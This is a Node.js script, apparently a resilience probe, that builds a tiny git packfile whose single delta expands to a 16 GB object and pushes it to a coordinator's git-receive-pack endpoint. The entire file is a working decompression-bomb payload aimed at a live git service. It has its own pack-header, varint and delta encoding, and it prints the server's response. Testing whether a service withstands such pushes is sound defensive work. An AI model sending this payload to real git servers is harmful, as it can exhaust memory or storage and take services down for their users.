// A pack of a few kilobytes whose one delta stands for a file of 16 GB. Prints what the
// coordinator's git answered.
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { call } from "./broker.mjs";

const BASE = 16 * 2 ** 20 - 1;
const COPIES = 1_024;

/** Kind and size as a pack entry begins: four bits, then seven at a time. */
function entry(kind, size, content, between = Buffer.alloc(0)) {
  const head = [];
  let rest = Math.floor(size / 16);
  let byte = (kind << 4) | (size % 16);
  while (rest > 0) {
    head.push(byte | 0x80);
    byte = rest % 128;
    rest = Math.floor(rest / 128);
  }
  return Buffer.concat([Buffer.from([...head, byte]), between, deflateSync(content)]);
}

function varint(value) {
  const bytes = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

const base = Buffer.alloc(BASE);
const baseId = createHash("sha1").update(`blob ${BASE}\0`).update(base).digest();
const copy = Buffer.from([0b11110000, 0xff, 0xff, 0xff]);
const delta = Buffer.concat([varint(BASE), varint(BASE * COPIES), ...Array.from({ length: COPIES }, () => copy)]);
const head = Buffer.from("PACK\0\0\0\u0002\0\0\0\u0002", "latin1");
const content = Buffer.concat([head, entry(3, BASE, base), entry(7, delta.length, delta, baseId)]);
const pack = Buffer.concat([content, createHash("sha1").update(content).digest()]);

const line = `${"0".repeat(40)} ${"1".repeat(40)} refs/slipway/work\0report-status`;
const body = Buffer.concat([Buffer.from((line.length + 4).toString(16).padStart(4, "0") + line + "0000"), pack]);
const answer = await call("POST", "/git/repo.git/git-receive-pack", {
  body,
  headers: { "content-type": "application/x-git-receive-pack-request" },
});
console.log(JSON.stringify({ bytes: body.length, status: answer.status, text: answer.text }));
